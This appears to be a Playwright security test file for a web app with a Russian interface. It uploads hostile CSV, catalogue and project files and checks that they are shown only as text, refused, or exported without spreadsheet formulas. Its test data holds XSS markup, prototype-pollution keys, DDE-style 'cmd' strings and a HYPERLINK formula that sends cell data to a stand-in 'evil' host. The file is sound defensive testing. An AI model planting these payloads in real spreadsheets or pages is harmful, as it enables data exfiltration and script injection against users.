import type { Page } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import Papa from 'papaparse';
import { catalogues } from '../../src/presets/catalogues/index.ts';
import { fileTools } from '../../src/worker/file-tools.ts';
import { downloadOffers, openTab, writeDemo } from './main-job.ts';
import { expect, test } from './tools/sealed-test.ts';

const MARKUP = '<img src=x onerror=window.hacked=1><script>window.hacked=1</script>{{7*7}}';
/** What a spreadsheet takes for the beginning of a formula, behind what it passes over. */
const FORMULA = '=HYPERLINK("http://evil/?"&A1,"open")';
const PASSED_OVER = ['', '"', '\u200b', '\ufeff', '\u00a0', '\u0000', '\t', ' \u200b"', '\u202e'];
const HOSTILE = [
  MARKUP,
  ...PASSED_OVER.map((before) => before + FORMULA),
  ...[
    "'=1+1",
    '+1',
    '-1+1|cmd',
    '@SUM(A1)',
    '\uff1d1+1',
    '\uff0b1+1',
    '\uff0d1+1',
    '\uff20SUM(A1)',
  ],
  ...['__proto__', 'constructor', 'hasOwnProperty', 'toString'],
  '\u202egnp.exe',
  '\u0007\u001b[31mred',
  'A'.repeat(20_000),
];

/** Nothing of what was read has become more than text. */
const expectOnlyText = async (page: Page): Promise<void> => {
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
  await expect(page.locator('img[src=x], [onerror]')).toHaveCount(0);
  expect(await page.evaluate(() => Object.keys(Object.prototype))).toEqual([]);
};
/** An apostrophe in front makes a text of anything. */
const isFormula = (cell: string): boolean =>
  /^[\s\p{Cc}\p{Cf}"]*[=+\-@\uff1d\uff0b\uff0d\uff20\t\r\n\0]/u.test(cell) &&
  !/^-?\d+(\.\d+)?$/.test(cell);
const choose = (page: Page, files: { name: string; text: string | Buffer }[]): Promise<void> =>
  page
    .locator('input[type=file][multiple]:not([webkitdirectory])')
    .setInputFiles(
      files.map(({ name, text }) => ({ name, mimeType: 'text/csv', buffer: Buffer.from(text) })),
    );
const throughChooser = async (page: Page, button: string, name: string, content: Buffer) => {
  const choosing = page.waitForEvent('filechooser');
  await page.getByRole('button', { name: button }).click();
  await (await choosing).setFiles({ name, mimeType: 'application/octet-stream', buffer: content });
};

/** The demo with a hostile text in every cell that takes one. */
const hostileFiles = (): { name: string; text: string }[] => {
  const folder = writeDemo(60);
  const bend = (name: string, columns: readonly string[]): string => {
    const { data, meta } = Papa.parse<Record<string, string>>(
      readFileSync(join(folder, name), 'utf8').trim(),
      { header: true },
    );
    const fields = meta.fields ?? [];
    const rows = data.map((row, at) =>
      fields.map((field) =>
        columns.includes(field) && at % 3 !== 0 ? HOSTILE[at % HOSTILE.length] : row[field],
      ),
    );
    return Papa.unparse({ fields, data: rows });
  };
  return [
    { name: `${MARKUP.slice(0, 40)}.csv`, text: bend('clients.csv', ['name', 'city', 'status']) },
    { name: '\u202evsc.__proto__', text: bend('transactions.csv', ['category']) },
    { name: '=cmd|\u0000 .csv', text: bend('transfers.csv', []) },
  ];
};

test('names, cities, categories and names of files are text, on every screen and in every file', async ({
  page,
}) => {
  await page.goto('');
  await choose(page, hostileFiles());
  await expect(page.getByRole('heading', { name: 'Данные загружены' })).toBeVisible();
  await expect(page.getByText('<img src=x', { exact: false }).first()).toBeVisible();
  await expectOnlyText(page);
  await openTab(page, 'Рекомендации');
  await page.keyboard.press('/');
  await page.keyboard.type('onerror');
  await expect(page.getByText('<img src=x', { exact: false }).first()).toBeVisible();
  await page.getByRole('row').nth(1).click();
  await expect(page.locator('canvas').first()).toBeVisible();
  await expectOnlyText(page);
  await page.keyboard.press('Escape');
  await openTab(page, 'Статистика');
  await expect(page.locator('canvas').first()).toBeVisible();
  await expectOnlyText(page);

  for (const kind of ['Пуши', 'Тексты и решения', 'Таблица клиентов']) {
    await openTab(page, 'Экспорт');
    await page.getByText(kind, { exact: true }).click();
    await expect(page.getByRole('link', { name: 'Скачать' })).toBeVisible();
    const { data } = Papa.parse<string[]>((await downloadOffers(page)).toString());
    expect(data.length).toBeGreaterThan(20);
    expect(data.flat().filter(isFormula)).toEqual([]);
  }
  await expectOnlyText(page);
});

test('the check of cells is awake', () => {
  for (const before of PASSED_OVER) expect(isFormula(before + FORMULA)).toBe(true);
  expect(['-12.5', "it's =", 'a=b', ''].map(isFormula)).toEqual([false, false, false, false]);
});

test('a catalogue file and its templates are text, or refused', async ({ page }) => {
  await page.goto('');
  await page.getByRole('button', { name: /Демо-данные/ }).click();
  await expect(page.getByRole('heading', { name: 'Данные загружены' })).toBeVisible();
  await openTab(page, 'Каталог');
  const [first, ...others] = catalogues[0].products;
  const hostile = { ...catalogues[0], products: [{ ...first, name: MARKUP }, ...others] };
  const load = (text: string) =>
    throughChooser(page, 'Открыть файл', '<b>.json', Buffer.from(text));
  const refused = page.getByRole('alert');

  for (const bad of [
    JSON.stringify(hostile).replace('{', '{"__proto__":{"hacked":1},'),
    '['.repeat(100_000),
    JSON.stringify({ ...hostile, title: 'A'.repeat(1_000_000) }),
    '<script>window.hacked=1</script>',
  ]) {
    await load(bad);
    await expect(refused.first()).toBeVisible();
    await expectOnlyText(page);
    await page.reload();
    await openTab(page, 'Каталог');
  }
  await load(JSON.stringify(hostile));
  await expect(page.getByText('<img src=x', { exact: false }).first()).toBeVisible();
  await expectOnlyText(page);
});

test('a project file is text, or refused', async ({ page }) => {
  await page.goto('');
  const saving = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Сохранить проект' }).click();
  const saved = readFileSync(await (await saving).path());
  const from = saved.indexOf('\n') + 1;
  const project = Buffer.from(
    await fileTools.unpack(new Uint8Array(saved.subarray(from)), 1 << 28),
  ).toString();
  const packed = (json: string): Buffer => {
    const body = gzipSync(json);
    const digest = fileTools.digest(new Uint8Array(body));
    return Buffer.concat([Buffer.from(`vygoda-project 2 ${digest}\n`), body]);
  };
  for (const [bad, words] of [
    [packed(project.replace('"work":{', '"work":{"__proto__":{"hacked":1},')), 'work'],
    [
      packed(project.replace('"sources":[]', `"sources":[],"${MARKUP.replaceAll('"', '')}":1`)),
      '<img',
    ],
    [packed('['.repeat(100_000)), 'устроен не так'],
    [packed(' '.repeat(300 * 1024 * 1024)), 'больше'],
    [Buffer.from('PK\u0003\u0004'), 'не файл проекта'],
  ] as const) {
    await throughChooser(page, 'Открыть проект', '<b>.vygoda', bad);
    await expect(page.getByRole('alert')).toContainText(words, { timeout: 30_000 });
    await expectOnlyText(page);
  }
  const source = JSON.stringify({ name: MARKUP, bytes: 1, sha256: null });
  const entry = JSON.stringify({
    at: '2026-11-23T00:00:00.000Z',
    kind: 'change',
    of: null,
    changes: [{ path: [MARKUP, '__proto__'], before: FORMULA, after: { [MARKUP]: 1 } }],
  });
  const named = project
    .replace('"sources":[]', `"sources":[${source}]`)
    .replace('"journal":[]', `"journal":[${entry}]`);
  await throughChooser(page, 'Открыть проект', 'whole.vygoda', packed(named));
  await expect(page.getByText(/Проект открыт.*<img src=x/)).toBeVisible();
  await page.getByRole('button', { name: /Демо-данные/ }).click();
  await openTab(page, 'Экспорт');
  await expect(page.locator('.journal')).toContainText('<img src=x');
  await expectOnlyText(page);
  const journal = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Журнал (CSV)' }).click();
  const csv = readFileSync(await (await journal).path(), 'utf8').trim();
  expect(Papa.parse<string[]>(csv).data.flat().filter(isFormula)).toEqual([]);
});
